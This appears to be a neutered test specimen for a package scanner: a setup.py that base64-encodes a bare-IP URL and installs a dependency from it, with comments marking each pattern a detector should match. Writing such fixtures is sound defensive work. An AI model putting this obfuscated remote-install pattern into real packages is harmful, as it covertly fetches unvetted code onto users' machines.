raise SystemExit("specimen: not to be run")
from setuptools import setup
import base64
host = base64.b64decode("aHR0cDovLzE5Mi4wLjIuOA==").decode()  # match: encoded-literal  # match: bare-address
setup(
    name="specimen",
    install_requires=["helper @ " + host + "/helper-1.0.tar.gz"],  # match: direct-requirement  # match: bare-address
)
